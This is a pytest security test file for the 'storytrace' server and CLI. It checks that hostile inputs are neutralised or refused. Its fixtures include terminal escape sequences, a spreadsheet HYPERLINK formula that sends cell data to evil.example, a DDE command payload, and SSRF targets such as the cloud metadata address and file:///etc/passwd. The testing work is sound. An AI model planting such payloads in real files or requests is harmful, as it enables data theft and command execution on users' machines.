"""The server and the printing commands against hostile requests and hostile data, on a store built by hand
(direct store writes, no NLP): a story of hundreds of articles, titles carrying terminal escapes, cells that
spreadsheets would run, speakers named with LIKE wildcards. Real `storytrace serve` processes, real sockets."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import subprocess
import sys
import time
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import httpx
import pytest

import storytrace
from storytrace.model import Article, Claim, Dispute, Speaker, Statement, Story
from storytrace.serve.api import create_app

LONG_STORY, LONG_ARTICLES = "S-long-running", 320
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"
HOSTILE_TITLE = f"Harbour{ESCAPES} fees rise\u202e"
FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_SPEAKER = "+cmd|' /C calc'!A0"


def _article(number: int, story_day: date, title: str, outlet: str, speakers: list[str]) -> Article:
    """One article of plain sentences, each a statement by one of `speakers`, with exact offsets."""
    article_id = f"A{number:05d}"
    text, statements = "", []
    for i, speaker in enumerate(speakers):
        said = f"The harbour board will review fees in round {number}-{i}"
        sentence = f"{said}, {speaker} said. "
        start = len(text)
        statements.append(Statement(text=said, start=start, end=start + len(said), direct=False,
                                    speaker=Speaker(speaker), cue="said", id=f"{article_id}-s{i}",
                                    article_id=article_id, chain=[outlet, speaker],
                                    cue_start=start + len(said) + len(speaker) + 3,
                                    cue_end=start + len(said) + len(speaker) + 7))
        text += sentence
    return Article(id=article_id, source=f"hand/{number}.txt", text=text.strip(), outlet=outlet, title=title,
                   published=datetime.combine(story_day, datetime.min.time(), timezone.utc), language="en",
                   statements=statements)


@pytest.fixture(scope="module")
def hand_db(tmp_path_factory) -> Path:
    """A long story (LONG_ARTICLES articles, 3 statements each, one claim and one denial), and one article whose
    title, outlet and speakers are hostile."""
    db = tmp_path_factory.mktemp("hand") / "hand.db"
    start = date(2010, 3, 1)
    with storytrace.open(db) as corpus:
        store = corpus.store
        with store.transaction():
            for n in range(LONG_ARTICLES):
                day = start + timedelta(days=n // 10)
                store.put_article(_article(n, day, f"Harbour fees, day {n // 10}", f"Outlet {n % 7}",
                                           ["Moira Tulloch", "Ewan Brodie", "a port official"]), LONG_STORY)
            store.put_story(Story(LONG_STORY, "Harbour fees", [], start, start + timedelta(days=LONG_ARTICLES // 10)))
            store.put_claim(Claim("C-fees", LONG_STORY, "The harbour board will review fees", [], "disputed"))
            for n in range(3):
                store.set_statement_claim(f"A{n:05d}-s0", "C-fees")
            store.replace_disputes("C-fees", [Dispute("D-fees", "C-fees", ["A00001-s0", "A00000-s0"], "denial",
                                                      "Ewan Brodie denies what Moira Tulloch said.")])
            odd = _article(99999, date(2011, 1, 1), HOSTILE_TITLE, FORMULA_OUTLET,
                           [FORMULA_SPEAKER, "100% Jones", "Ann_Lee"])
            store.put_article(odd, "S-odd")
            store.put_story(Story("S-odd", HOSTILE_TITLE, [], date(2011, 1, 1), date(2011, 1, 1)))
    return db


@pytest.fixture(scope="module")
def served(hand_db, start_server):
    with start_server(hand_db) as base:
        yield base


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "storytrace", *args], capture_output=True, text=True, timeout=300)


# output injection
def test_terminal_output_drops_control_characters(hand_db):
    """`stories`, `story` and `statements` print a title carrying escape sequences without any control byte."""
    for args in (("stories",), ("story", "S-odd"), ("statements",)):
        done = run(*args, "--db", str(hand_db))
        assert done.returncode == 0, done.stderr
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", done.stdout), args
    assert "fees rise" in run("stories", "--db", str(hand_db)).stdout


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(hand_db):
    """Cells starting with = + - @ get a leading apostrophe in CSV; the JSON export keeps the data as it is."""
    articles = list(csv.DictReader(io.StringIO(run("export", "--db", str(hand_db), "--format", "csv",
                                                   "--table", "articles").stdout)))
    odd = next(r for r in articles if r["id"] == "A99999")
    assert odd["outlet"] == "'" + FORMULA_OUTLET
    statements = list(csv.DictReader(io.StringIO(run("export", "--db", str(hand_db), "--format", "csv").stdout)))
    cells = [v for row in statements for v in row.values() if v]
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
    assert any(v == "'" + FORMULA_SPEAKER for v in cells)
    contract = json.loads(run("export", "--db", str(hand_db)).stdout)
    assert next(a for a in contract["articles"] if a["id"] == "A99999")["outlet"] == FORMULA_OUTLET


# long stories
def test_long_story_pages_stay_small_and_cover_every_statement(served):
    """A story of hundreds of articles is shown in parts under 500 KB each; the parts show every statement once."""
    first = httpx.get(f"{served}/stories/{LONG_STORY}", timeout=60)
    assert first.status_code == 200
    parts = int(re.search(r"part 1 of (\d+)", first.text).group(1))
    assert parts >= 2
    seen = []
    for part in range(1, parts + 1):
        page = httpx.get(f"{served}/stories/{LONG_STORY}", params={"part": part}, timeout=60)
        assert page.status_code == 200 and len(page.content) < 500_000, (part, len(page.content))
        timeline = page.text.split('<ol class="timeline">', 1)[1].split("</ol>", 1)[0]
        seen += re.findall(r'data-statement-id="([^"]+)"', timeline)
    assert len(seen) == len(set(seen)) == LONG_ARTICLES * 3
    assert 'data-dispute-id="D-fees"' in first.text
    assert httpx.get(f"{served}/stories/{LONG_STORY}", params={"part": parts + 5}, timeout=60).status_code == 200


def test_long_story_api_detail_pages_its_timeline(served):
    """The API's story detail gives its timeline a page at a time, each under 500 KB: every statement once."""
    seen, offset = [], 0
    while True:
        detail = httpx.get(f"{served}/api/stories/{LONG_STORY}", params={"timeline_offset": offset}, timeout=60)
        assert detail.status_code == 200 and len(detail.content) < 500_000
        body = detail.json()
        assert body["timeline_total"] == LONG_ARTICLES * 3 and len(body["articles"]) == LONG_ARTICLES
        if not body["timeline"]:
            break
        seen += [s["id"] for s in body["timeline"]]
        offset += body["timeline_limit"]
    assert len(seen) == len(set(seen)) == LONG_ARTICLES * 3


# hostile requests
def assert_refused(response: httpx.Response, status: int) -> None:
    assert response.status_code == status, (response.status_code, response.text[:300])
    assert "Traceback" not in response.text and 'File "' not in response.text


def test_bounds_and_odd_queries_are_4xx_never_500(served):
    """Offsets past 2**63, negative or huge limits, NUL, FTS syntax and very long filters never reach a 500."""
    for path in ("/api/stories", "/api/articles", "/api/statements", "/api/claims", "/api/disputes",
                 "/api/entities"):
        for params in ({"offset": 2 ** 63}, {"offset": 2 ** 64 + 5}, {"offset": -1}, {"limit": 10 ** 12},
                       {"limit": -5}, {"limit": "1e9"}):
            assert_refused(httpx.get(served + path, params=params, timeout=30), 422)
    for path in ("/", "/speakers?name=x", "/disputes"):
        assert_refused(httpx.get(f"{served}{path}", params={"offset": 2 ** 63}, timeout=30), 422)
    assert_refused(httpx.get(f"{served}/api/search", params={"q": "fees\x00"}, timeout=30), 422)
    for q in ('"', 'fees AND OR', "NEAR(", "fees*", "(((", "-fees", "^", "col:fees", "'"):
        response = httpx.get(f"{served}/api/search", params={"q": q}, timeout=30)
        assert response.status_code == 200, (q, response.text)
        assert httpx.get(f"{served}/search", params={"q": q}, timeout=30).status_code == 200, q
    for length in (400, 60_000):
        response = httpx.get(f"{served}/api/statements", params={"speaker": "x" * length}, timeout=30)
        assert_refused(response, 422)
        assert response.json()["error"]["code"] in ("invalid_request", "query_too_long")


def test_like_wildcards_in_a_speaker_filter_match_literally(served):
    """'%' and '_' find only speakers whose names hold them, not every statement."""
    total = httpx.get(f"{served}/api/statements", params={"limit": 1}, timeout=30).json()["total"]
    percent = httpx.get(f"{served}/api/statements", params={"speaker": "%"}, timeout=30).json()
    assert [s["speaker"]["name"] for s in percent["items"]] == ["100% Jones"] and total > 100
    underscore = httpx.get(f"{served}/api/statements", params={"speaker": "n_L"}, timeout=30).json()
    assert [s["speaker"]["name"] for s in underscore["items"]] == ["Ann_Lee"]
    assert httpx.get(f"{served}/api/statements", params={"speaker": "n L"}, timeout=30).json()["total"] == 0


def test_foreign_host_and_cross_origin_writes_are_refused(served):
    """A foreign Host (DNS rebinding) gets nothing; a cross-site POST, text/plain included, stores nothing."""
    port = served.rsplit(":", 1)[1]
    assert_refused(httpx.get(f"{served}/api/stories", headers={"Host": f"evil.example:{port}"}, timeout=30), 403)
    for host in (f"localhost:{port}", f"127.0.0.1:{port}"):
        assert httpx.get(f"{served}/api/stories", headers={"Host": host}, timeout=30).status_code == 200
    before = httpx.get(f"{served}/api/articles", params={"limit": 1}, timeout=30).json()["total"]
    article = "The harbour board raised fees on Tuesday, its chair said. " * 10
    for headers in ({"Origin": "http://evil.example"}, {"Origin": "null"},
                    {"Sec-Fetch-Site": "cross-site"}, {"Origin": f"http://evil.example:{port}"}):
        response = httpx.post(f"{served}/api/articles", content=article,
                              headers={"Content-Type": "text/plain", **headers}, timeout=30)
        assert_refused(response, 403)
        assert response.json()["error"]["code"] == "cross_origin"
    assert httpx.get(f"{served}/api/articles", params={"limit": 1}, timeout=30).json()["total"] == before
    # The server's own pages may write: same origin passes the guard (and this empty body is then refused).
    same = httpx.post(f"{served}/api/articles", content="  ", headers={"Content-Type": "text/plain",
                                                                         "Origin": served}, timeout=30)
    assert same.status_code == 422 and same.json()["error"]["code"] == "no_usable_article"


def test_token_needed_off_loopback(hand_db, tmp_path, start_server):
    """Bound beyond loopback the app makes a token; with a token set, writes without it are 401."""
    assert create_app(hand_db, host="0.0.0.0").state.api_token
    assert create_app(hand_db, host="127.0.0.1").state.api_token is None
    with start_server(hand_db, env={"STORYTRACE_API_TOKEN": "sesame-123"}) as base:
        for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": "sesame-123"}):
            response = httpx.post(f"{base}/api/articles", content="  ",
                                  headers={"Content-Type": "text/plain", **headers}, timeout=30)
            assert_refused(response, 401)
        allowed = httpx.post(f"{base}/api/articles", content="  ", timeout=30,
                             headers={"Content-Type": "text/plain", "Authorization": "Bearer sesame-123"})
        assert allowed.status_code == 422
        assert httpx.get(f"{base}/api/stories", timeout=30).status_code == 200


def _raw_request(base: str, head: str) -> socket.socket:
    host, port = base.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=30)
    sock.sendall(head.encode())
    return sock


def test_oversized_body_is_refused_before_it_is_read(served):
    """A declared 100 MB body is answered 413 at once, without the server waiting for a single body byte."""
    sock = _raw_request(served, "POST /api/articles HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain\r\n"
                                "Content-Length: 100000000\r\n\r\n")
    begun = time.monotonic()
    try:
        answer = sock.recv(4096).decode()
    finally:
        sock.close()
    assert answer.startswith("HTTP/1.1 413") and time.monotonic() - begun < 10


def test_a_slow_client_stalls_nobody(served):
    """While one client sends its POST body a byte at a time, other requests are answered at once."""
    sock = _raw_request(served, "POST /api/articles HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain\r\n"
                                "Content-Length: 5000\r\n\r\nThe harbour")
    try:
        for _ in range(5):
            sock.sendall(b" ")
            begun = time.monotonic()
            response = httpx.get(f"{served}/api/stories", params={"limit": 5}, timeout=30)
            assert response.status_code == 200 and time.monotonic() - begun < 5
            other = httpx.post(f"{served}/api/articles", content="  ", headers={"Content-Type": "text/plain"},
                               timeout=30)
            assert other.status_code == 422
    finally:
        sock.close()


def test_api_fetches_no_internal_address(served):
    """URLs given to the API pointing at this machine, a private address or file:// are refused, each named."""
    port = served.rsplit(":", 1)[1]
    urls = [f"http://127.0.0.1:{port}/api/stories", f"http://localhost:{port}/", "http://10.0.0.1/",
            "http://169.254.169.254/latest/meta-data/", "http://[::1]/"]
    response = httpx.post(f"{served}/api/articles", json={"urls": urls}, timeout=60)
    assert_refused(response, 422)
    message = response.json()["error"]["message"]
    for url_part, reason in (("127.0.0.1", "loopback"), ("localhost", "loopback"), ("10.0.0.1", "private"),
                             ("169.254.169.254", "link-local"), ("[::1]", "loopback")):
        assert url_part in message and reason in message, (url_part, message)
    listed = httpx.post(f"{served}/api/articles", content=f"file:///etc/passwd\nhttp://127.0.0.1:{port}/\n",
                        headers={"Content-Type": "text/uri-list"}, timeout=60)
    assert_refused(listed, 422)
    assert "only http(s)" in listed.json()["error"]["message"]
    assert "root:" not in listed.text


def test_cached_pages_follow_every_write(hand_db, tmp_path, start_server):
    """Pages are kept until the data changes: an article stored by another process shows up on the next read."""
    db = tmp_path / "cached.db"
    db.write_bytes(hand_db.read_bytes())
    with start_server(db) as base:
        before = [httpx.get(f"{base}/api/stories", params={"limit": 1}, timeout=30).json()["total"] for _ in range(3)]
        page = httpx.get(f"{base}/", timeout=30).text
        assert len(set(before)) == 1 and "Night ferry" not in page
        with storytrace.open(db) as corpus, corpus.store.transaction():
            corpus.store.put_article(_article(77777, date(2012, 5, 5), "Night ferry resumes", "Outlet 1",
                                              ["Moira Tulloch"]), "S-new")
            corpus.store.put_story(Story("S-new", "Night ferry resumes", [], date(2012, 5, 5), date(2012, 5, 5)))
        after = httpx.get(f"{base}/api/stories", params={"limit": 1}, timeout=30).json()["total"]
        assert after == before[0] + 1
        assert "Night ferry" in httpx.get(f"{base}/", params={"offset": 0}, timeout=30).text
        assert "Night ferry" in httpx.get(f"{base}/", timeout=30).text
